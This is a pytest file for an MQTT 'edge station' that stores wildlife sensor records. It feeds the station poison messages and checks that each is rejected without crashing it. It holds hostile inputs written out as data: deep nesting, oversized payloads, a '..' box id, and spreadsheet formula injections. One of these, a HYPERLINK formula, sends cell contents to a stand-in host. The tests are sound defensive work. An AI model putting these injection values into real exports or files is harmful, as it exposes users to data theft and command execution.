"""Poison messages against `edge station` as a ranger runs it: each published with Debian's mosquitto_pub, as
anyone on the station's network can, then a valid record. The station must stay up, store the valid record,
and keep the poison one aside in its `rejected` table with the reason, counted for its box; never as a record.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import sqlite3
import threading
from datetime import UTC, datetime

import pytest
from click.testing import CliRunner
from rich.console import Console

from edge.app.health import SOURCE_FIELDS, Health
from edge.cli.main import main
from edge.station import store as store_module
from edge.station.messages import Record, RecordError, parse, topic_box, topic_parts
from edge.station.store import Store, StoreError
from edge.station.subscriber import StationOptions, Subscriber
from edge.station.table import box_lines, render
from edge.wire.mqtt import BrokerConfig
from edge.wire.records import status_payload
from support import paths
from support.broker import mosquitto_pub
from support.processes import StationProcess
from support.records import query
from support.waiting import wait_for

GOLDEN = json.loads((paths.GOLDEN / "event_v1.json").read_text())
INVALID_BOX = "(invalid box id)"


def event(box: str = "box-a", **fields) -> bytes:
    """A box's event record as published (the golden one, with its seq)."""
    return json.dumps({**GOLDEN, "box": box, "seq": 1, **fields}).encode()


def status(**fields) -> bytes:
    return json.dumps(
        {
            "schema": "edge.status/1",
            "box": "box-a",
            "state": "online",
            "time_utc": "2026-11-23T09:00:00.000+00:00",
            **fields,
        }
    ).encode()


def nested(levels: int) -> bytes:
    return b'{"schema": "edge.event/1", "x": ' + b"[" * levels + b"]" * levels + b"}"


# name: (topic, payload, the box it counts for, what the reason says)
POISON = {
    "infinity": (
        "edge/evil/events",
        b'{"schema":"x","id":"a","kind":"start","end_s":5,"confidence":Infinity}',
        "evil",
        "Infinity",
    ),
    "version_object": ("edge/box-a/status", status(version={"major": 1}), "box-a", "version is not text"),
    "seq_beyond_64_bits": ("edge/box-a/events", event(seq=1180591620717411303424), "box-a", "beyond 64 bits"),
    "nested_100000_deep": ("edge/box-a/events", nested(100_000), "box-a", "larger than 65536"),
    "nested_30000_deep": ("edge/box-a/events", nested(30_000), "box-a", "nested 30001 deep"),
    "schema_evil": ("edge/box-a/events", event(schema="evil/9"), "box-a", "schema 'evil/9' is not one of"),
    "common_name_list": ("edge/box-a/events", event(common_name=["Tawny", "Owl"]), "box-a", "common_name is not text"),
    "confidence_very": ("edge/box-a/events", event(confidence="very"), "box-a", "confidence is not a number"),
    "seq_zero": ("edge/box-a/events", event(seq=0), "box-a", "seq 0 is not within"),
    "seq_negative": ("edge/box-a/events", event(seq=-5), "box-a", "seq -5 is not within"),
    "common_name_10_mb": ("edge/box-a/events", event(common_name="O" * 10_000_000), "box-a", "larger than 65536"),
    "id_1_mb": ("edge/box-a/events", event(id="i" * 1_000_000), "box-a", "larger than 65536"),
    "box_dot_dot": ("edge/../events", event(box=".."), INVALID_BOX, "topic's box id '..' is not"),
    "box_60000_characters": (
        f"edge/{'b' * 60_000}/events",
        event(box="b" * 60_000),
        INVALID_BOX,
        "box id of 60000 characters",
    ),
    "unexpected_topic": ("edge/box-a/other", event(), "box-a", "is not edge/<box>/"),
    "topic_one_level_deeper": ("edge/box-a/events/x", event(), "box-a", "is not edge/<box>/"),
}


@pytest.mark.parametrize("name", POISON)
def test_a_poison_message_is_set_aside_and_the_station_goes_on(broker, tmp_path, name):
    topic, payload, box, reason = POISON[name]
    db = tmp_path / "station.sqlite"
    station = StationProcess(broker, db)
    try:
        station.wait_log("station_subscribed")
        mosquitto_pub(broker, topic, payload, tmp_path)
        mosquitto_pub(broker, "edge/box-ok/events", event("box-ok"), tmp_path)
        station.wait_for(lambda: query(db, "SELECT 1 FROM records WHERE box = 'box-ok'"), what="the valid record")
        (rejected,) = station.wait_for(lambda: query(db, "SELECT * FROM rejected"), what="the poison message set aside")
        assert (rejected["box"], rejected["size"]) == (box, len(payload))
        assert reason in rejected["reason"]
        assert len(rejected["payload"].encode()) <= 4096 and payload.decode().startswith(rejected["payload"])
        assert [tuple(row) for row in query(db, "SELECT box, kind FROM records")] == [("box-ok", "events")]
        counts = {row["box"]: row["rejected"] for row in query(db, "SELECT box, rejected FROM boxes")}
        assert counts == {"box-ok": 0, box: 1}
        logged = station.wait_log("record_rejected")
        assert logged["reason"] == rejected["reason"] and logged["box"] == (None if box == INVALID_BOX else box)
    finally:
        assert station.terminate() == 0


def test_clearing_a_retained_status_is_no_rejection(broker, tmp_path):
    """An empty message is how a retained status is removed (`mosquitto_pub -r -n`): logged, not set aside."""
    db = tmp_path / "station.sqlite"
    station = StationProcess(broker, db)
    try:
        station.wait_log("station_subscribed")
        mosquitto_pub(broker, "edge/box-old/status", b"", tmp_path)
        mosquitto_pub(broker, "edge/box-ok/events", event("box-ok"), tmp_path)
        station.wait_for(lambda: query(db, "SELECT 1 FROM records WHERE box = 'box-ok'"), what="the valid record")
        assert station.wait_log("retained_status_cleared")["topic"] == "edge/box-old/status"
        assert query(db, "SELECT * FROM rejected") == []
    finally:
        assert station.terminate() == 0


def parsed(payload: bytes, kind: str = "events", box: str = "box-a"):
    return parse(box, kind, payload, "2026-11-23T09:00:00.000+00:00")


def refused(payload: bytes, kind: str = "events", box: str = "box-a") -> str:
    with pytest.raises(RecordError) as error:
        parsed(payload, kind, box)
    return str(error.value)


def test_parse_refuses_what_json_and_sqlite_read_differently():
    text = event().decode()
    assert "NaN" in refused(text.replace("0.9123", "NaN").encode())
    assert "-Infinity" in refused(text.replace("0.9123", "-Infinity").encode())
    assert "beyond a float" in refused(text.replace("0.9123", "1e999").encode())
    assert "beyond 64 bits" in refused(event(extra=2**64))  # in a field no check looks at, too
    assert "beyond 64 bits" in refused(text.replace('"seq": 1', '"seq": ' + "9" * 5000).encode())  # past int()'s limit
    assert parsed(event(seq=2**63 - 1)).seq == 2**63 - 1
    assert "'kind' twice" in refused(text.replace('"kind": "start"', '"kind": "start", "kind": "end"').encode())
    assert "not UTF-8" in refused(b'{"schema": "\xff"}')
    assert "a JSON list, not an object" in refused(b"[1]")
    assert "not JSON" in refused(b'{"schema": ')


def test_parse_limits_size_and_depth_before_parsing():
    def deep(levels: int) -> bytes:  # an unknown field nested inside the record
        return event(extra=json.loads("[" * (levels - 1) + "]" * (levels - 1)) if levels > 1 else 0)

    assert parsed(deep(16)).payload["extra"]
    assert "nested 17 deep, more than 16" in refused(deep(17))
    assert parsed(event(common_name="[{" * 400)).payload["common_name"]  # brackets in strings are text
    assert "larger than 65536" in refused(event(common_name="x" * 65536))


def test_parse_checks_every_known_field():
    cases = {
        event(id="i" * 1000): "id is longer than 128",
        event(id=""): "id is empty",
        event(id="a\u0000b"): "id holds a control character",
        event(common_name="\ud800"): "common_name holds a control character or a lone surrogate",
        event(kind="alert"): "kind 'alert' is none of start, update, end",
        event(start_s=-1): "start_s -1 is not within",
        event(end_s=5.0): "end_s 5.0 is before start_s 7.5",
        event(confidence=1.5): "confidence 1.5 is not within",
        event(confidence=True): "confidence is not a number",
        event(start_utc="yesterday"): "start_utc is not an ISO 8601 time",
        event(start_utc="2026-11-23T09:00:00"): "start_utc has no UTC offset",
        event(box="box-b"): "box 'box-b' of the payload is not the topic's 'box-a'",
        event(box="a/b"): "box box id 'a/b' is not",
        json.dumps({k: v for k, v in json.loads(event()).items() if k != "seq"}).encode(): "edge.event/1 without seq",
        event(schema="edge.event/2"): "schema 'edge.event/2' is not one of edge.event/1",
        event(seq="7"): "seq is not a whole number",
        event(schema=["edge.event/1"]): "schema ['edge.event/1'] is not one of",
    }
    for payload, reason in cases.items():
        assert reason in refused(payload)
    health = {"schema": "edge.health/1", "box": "box-a", "time_utc": "2026-11-23T09:00:00.000+00:00", "seq": 3}
    assert "disk_free_percent 150 is not within" in refused(
        json.dumps({**health, "disk_free_percent": 150}).encode(), "health"
    )
    assert "outbox_pending -1 is not within" in refused(json.dumps({**health, "outbox_pending": -1}).encode(), "health")
    assert "time_utc" in refused(json.dumps({**health, "time_utc": None}).encode(), "health")
    assert "state 'gone' is none of" in refused(status(state="gone"), "status")
    assert parsed(status(start_s=5), "status").key == "online 2026-11-23T09:00:00.000+00:00"  # a field unknown there


def test_parse_takes_what_boxes_publish_and_fields_it_does_not_know(tmp_path):
    assert parsed(event()).key == f"{GOLDEN['id']} start 12.5"
    assert parsed(event(clip=None, habitat={"reed": [1, 2.5]})).payload["habitat"] == {"reed": [1, 2.5]}
    assert parsed(event(clip="2019-05-22/a.flac")).seq == 1
    health = {**Health("box-a", tmp_path).record(SOURCE_FIELDS), "seq": 2}
    assert parsed(json.dumps(health).encode(), "health").key == health["time_utc"]
    assert parsed(json.dumps({**health, "real_time_factor": None}).encode(), "health")
    for state in ("online", "offline"):
        assert parsed(status_payload("box-a", state).encode(), "status").seq is None
    assert parsed(status_payload("box-a", "stopped", outbox_pending=0, mqtt_sent=9).encode(), "status")
    alert = {
        **json.loads(event()),
        "schema": "edge.alert/2",
        "kind": "alert",
        "alert_class": "Gun",
        "threshold": 0.5,
        "held_back": 0,
        "detected_utc": "2026-11-23T09:00:01.000+00:00",
    }
    del alert["clip"]
    assert parsed(json.dumps(alert).encode(), "alerts").event_id == GOLDEN["id"]
    assert "without alert_class" in refused(
        json.dumps({k: v for k, v in alert.items() if k != "alert_class"}).encode(), "alerts"
    )
    assert "kind 'start' is none of alert" in refused(json.dumps({**alert, "kind": "start"}).encode(), "alerts")
    assert parsed(event(schema="edge.alert/1"), "alerts")  # boxes before edge.alert/2
    assert "the events topic's" in refused(json.dumps(alert).encode(), "events")


def test_topics_name_a_box_and_a_kind():
    assert topic_parts("edge/box-1/events", "edge") == ("box-1", "events")
    assert topic_parts("site/a/edge/box-1/health", "site/a/edge") == ("box-1", "health")
    for topic, reason in (
        ("edge/box-1", "is not edge/<box>/"),
        ("edge/box-1/other", "is not edge/<box>/"),
        ("edge/box-1/events/x", "is not edge/<box>/"),
        ("edge//events", "box id ''"),
        ("edge/-x/events", "box id '-x'"),
        ("edge/a+b/events", "box id 'a+b'"),
    ):
        with pytest.raises(RecordError, match=re.escape(reason)):
            topic_parts(topic, "edge")
    assert topic_box("edge/box-1/other/level", "edge") == "box-1"
    assert topic_box("edge/../events", "edge") is None


def test_rejected_messages_are_bounded_and_counted(tmp_path, monkeypatch):
    monkeypatch.setattr(store_module, "MAX_REJECTED", 5)
    store = Store.open(tmp_path / "station.sqlite")
    for n in range(8):
        store.reject("box-a", f"edge/box-a/{'x' * 1000}", f"reason {n}", b"p" * 10_000, "2026-11-23T09:00:00Z")
    store.reject(None, "edge/../events", "bad box", b"{}", "2026-11-23T09:00:00Z")
    rows = store.db.execute("SELECT * FROM rejected ORDER BY id").fetchall()
    assert [row["reason"] for row in rows] == ["reason 4", "reason 5", "reason 6", "reason 7", "bad box"]
    assert (len(rows[0]["payload"]), rows[0]["size"], len(rows[0]["topic"])) == (4096, 10_000, 321)
    assert dict(store.db.execute("SELECT box, rejected FROM boxes").fetchall()) == {"box-a": 8, INVALID_BOX: 1}
    # What SQLite's JSON would not read is no record, whatever the checks before let through.
    with pytest.raises(RecordError, match="not JSON to SQLite"):
        store.add(Record("box-a", "health", "k", 1, {}, '{"time_utc": ', "2026-11-23T09:00:00Z"))
    store.close()


V1_SCHEMA = """
CREATE TABLE records (box TEXT NOT NULL, kind TEXT NOT NULL, key TEXT NOT NULL, seq INTEGER, event_id TEXT,
    payload TEXT NOT NULL, received_utc TEXT NOT NULL, UNIQUE (box, kind, key));
CREATE INDEX records_event ON records (box, event_id) WHERE event_id IS NOT NULL;
CREATE TABLE seqs (box TEXT NOT NULL, seq INTEGER NOT NULL, PRIMARY KEY (box, seq)) WITHOUT ROWID;
CREATE TABLE detections (box TEXT NOT NULL, id TEXT NOT NULL, alert INTEGER NOT NULL,
    scientific_name TEXT, common_name TEXT, label TEXT, source TEXT, model TEXT, model_version TEXT,
    start_s REAL, start_utc TEXT, end_s REAL, end_utc TEXT, max_confidence REAL,
    state TEXT NOT NULL, first_seq INTEGER, records INTEGER NOT NULL,
    first_received_utc TEXT NOT NULL, last_received_utc TEXT NOT NULL, PRIMARY KEY (box, id));
CREATE TABLE boxes (box TEXT PRIMARY KEY, status TEXT, status_utc TEXT, status_received_utc TEXT, version TEXT,
    last_seen_utc TEXT, health TEXT, health_utc TEXT, seq_min INTEGER, seq_max INTEGER,
    seq_count INTEGER NOT NULL DEFAULT 0,
    missing_seq INTEGER GENERATED ALWAYS AS (seq_max - seq_min + 1 - seq_count) VIRTUAL);
INSERT INTO boxes (box, seq_min, seq_max, seq_count) VALUES ('box-a', 1, 3, 2);
INSERT INTO records VALUES ('box-a', 'health', '2026-11-23T09:00:00.000+00:00', 1, NULL, '{}', '2026-11-23');
PRAGMA user_version = 1;
"""


def test_a_version_1_database_is_migrated(tmp_path):
    path = tmp_path / "station.sqlite"
    old = sqlite3.connect(path)
    old.executescript(V1_SCHEMA)
    old.close()
    store = Store.open(path)
    assert store.db.execute("PRAGMA user_version").fetchone()[0] == 4
    assert store.db.execute("SELECT count(*) FROM clips").fetchone()[0] == 0  # version 3's table, empty
    assert store.db.execute("SELECT count(*) FROM reviews").fetchone()[0] == 0  # version 4's
    assert tuple(store.db.execute("SELECT box, missing_seq, rejected FROM boxes").fetchone()) == ("box-a", 1, 0)
    store.add(parsed(event()))
    store.reject("box-a", "edge/box-a/other", "topic", b"{}", "2026-11-23T09:00:01Z")
    assert tuple(store.db.execute("SELECT seq_count, rejected FROM boxes").fetchone()) == (3, 1)
    assert store.db.execute("SELECT count(*) FROM records").fetchone()[0] == 2
    store.close()
    Store.open(path).close()  # and opens again as it is
    newer = sqlite3.connect(path)
    newer.execute("PRAGMA user_version = 5")
    newer.close()
    with pytest.raises(StoreError, match="database version 5, this station writes 4"):
        Store.open(path)


class BuggyStore(Store):
    """A store with a bug that one box's records run into: not a database failure."""

    def add(self, record):
        if record.box == "box-bug":
            raise KeyError("a field the code did not expect to miss")
        return super().add(record)


def test_a_bug_met_by_one_message_does_not_stop_the_station(broker, tmp_path):
    db = tmp_path / "station.sqlite"
    store = BuggyStore(Store.open(db).db)
    subscriber = Subscriber(
        BrokerConfig(host="127.0.0.1", port=broker.port),
        StationOptions(client_id="station-test", first_retry_s=0.1, max_retry_s=0.5),
        store,
    )
    stop = threading.Event()
    thread = threading.Thread(target=subscriber.run, args=(stop,))
    thread.start()
    try:
        assert subscriber.subscribed.wait(10)
        mosquitto_pub(broker, "edge/box-bug/events", event("box-bug"), tmp_path)
        mosquitto_pub(broker, "edge/box-ok/events", event("box-ok"), tmp_path)
        wait_for(lambda: query(db, "SELECT 1 FROM records WHERE box = 'box-ok'"), what="the record after the bug")
        (row,) = wait_for(lambda: query(db, "SELECT * FROM rejected"), what="the message set aside")
        assert row["box"] == "box-bug" and row["reason"].startswith("station error KeyError")
        assert subscriber.subscribed.is_set() and thread.is_alive()
    finally:
        stop.set()
        thread.join(timeout=10)
        store.close()


def test_export_neutralises_formulas(tmp_path):
    db = tmp_path / "station.sqlite"
    store = Store.open(db)
    formulas = {
        "common_name": '=HYPERLINK("http://x.example/?"&A1,"Owl")',
        "scientific_name": "+1+2",
        "id": "-2+3",
        "model": "@SUM(A1:A9)",
    }
    store.add(parsed(event(**formulas)))
    # What a database written before the station checked records may hold: control characters, a box '=cmd()'.
    formulas.update(source="\tcmd", model_version="\r=1")
    store.db.execute(
        "UPDATE detections SET source = ?, model_version = ?, start_s = -2.5",  # a number stays one
        (formulas["source"], formulas["model_version"]),
    )
    store.db.execute("INSERT INTO records VALUES ('=cmd()', 'health', 'k', 7, NULL, '{}', '2026-11-23')")
    store.close()

    def export(*args: str) -> list[dict]:
        result = CliRunner().invoke(main, ["station", "export", "--db", str(db), *args], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return list(csv.DictReader(io.StringIO(result.stdout)))

    (row,) = export()
    assert {name: row[name] for name in formulas} == {name: "'" + value for name, value in formulas.items()}
    assert (row["box"], row["start_s"], row["end_s"], row["max_confidence"]) == ("box-a", "-2.5", "12.5", "0.9123")
    records = export("--records")
    assert [(r["box"], r["seq"]) for r in records] == [("'=cmd()", "7"), ("box-a", "1")]
    assert json.loads(records[1]["payload"])["common_name"] == formulas["common_name"]  # JSON starts with {


def test_table_shows_rejected_messages_per_box(tmp_path):
    store = Store.open(tmp_path / "station.sqlite")
    store.add(parsed(event()))
    for _ in range(3):
        store.reject("box-a", "edge/box-a/events", "why", b"{}", "2026-11-23T09:00:00Z")
    store.reject(None, "edge/../events", "why", b"{}", "2026-11-23T09:00:00Z")
    now = datetime.now(UTC)
    lines = box_lines(store.db, now)
    store.close()
    assert [(line.box, line.rejected) for line in lines] == [(INVALID_BOX, 1), ("box-a", 3)]
    console = Console(file=io.StringIO(), width=200)
    console.print(render(lines, now))
    text = console.file.getvalue()
    assert "rejected" in text and re.search(r"\(invalid box id\).* 1 ", text)


def test_no_payload_meets_anything_but_a_rejection_or_the_database(tmp_path):
    """Records a box publishes, with fields swapped for values of other types or bytes spliced in: each is
    either stored or refused with a RecordError, never another exception (seeded: the same cases each run)."""
    rng = random.Random(14)
    alert = {
        **json.loads(event()),
        "schema": "edge.alert/2",
        "kind": "alert",
        "alert_class": "Gun",
        "threshold": 0.5,
        "held_back": 0,
        "detected_utc": "2026-11-23T09:00:01.000+00:00",
    }
    del alert["clip"]
    bases = [
        ("events", json.loads(event())),
        ("alerts", alert),
        ("status", json.loads(status())),
        ("health", {**Health("box-a", tmp_path).record(SOURCE_FIELDS), "seq": 2}),
    ]
    values = [
        None,
        True,
        0,
        -1,
        1.5,
        2**63,
        1e308,
        "",
        "\u0000",
        "\ud800",
        "9999-99-99",
        [],
        {},
        [1],
        {"a": 1},
        "start",
        "alert",
        "online",
        "edge.event/1",
    ]
    splices = [
        b"NaN",
        b"-Infinity",
        b"1e999",
        b"[",
        b"{",
        b"]",
        b"}",
        b'"',
        b"\\",
        b"\\ud800",
        b"\xff",
        b"99999999999999999999999",
        b",",
        b"null",
        b'"id": "x",',
        b"\x00",
    ]
    store = Store.open(tmp_path / "station.sqlite")
    stored = 0
    for _ in range(4000):
        kind, data = rng.choice(bases)
        data = {**data, **{rng.choice([*data, "start_s", "new"]): rng.choice(values) for _ in range(2)}}
        payload = bytearray(json.dumps(data).encode())
        if rng.random() < 0.5:
            at = rng.randrange(len(payload))
            payload[at : at + rng.randint(0, 3)] = rng.choice(splices)
        try:
            store.add(parsed(bytes(payload), kind))
            stored += 1
        except RecordError:
            pass
    store.close()
    assert 100 < stored < 4000


def test_a_message_beyond_16_mib_is_not_even_sent_to_the_station(broker, tmp_path):
    """Held whole in memory, a message of hundreds of megabytes could take the station down, and come back
    at every restart: over MQTT 5 the station tells the broker its limit, and the broker drops it."""
    db = tmp_path / "station.sqlite"
    station = StationProcess(broker, db)
    try:
        station.wait_log("station_subscribed")
        mosquitto_pub(broker, "edge/box-a/events", event(common_name="O" * 17_000_000), tmp_path)
        mosquitto_pub(broker, "edge/box-ok/events", event("box-ok"), tmp_path)
        station.wait_for(lambda: query(db, "SELECT 1 FROM records WHERE box = 'box-ok'"), what="the valid record")
        assert "Dropping too large outgoing PUBLISH for station-test" in broker.log()
        assert query(db, "SELECT * FROM rejected") == []
    finally:
        assert station.terminate() == 0
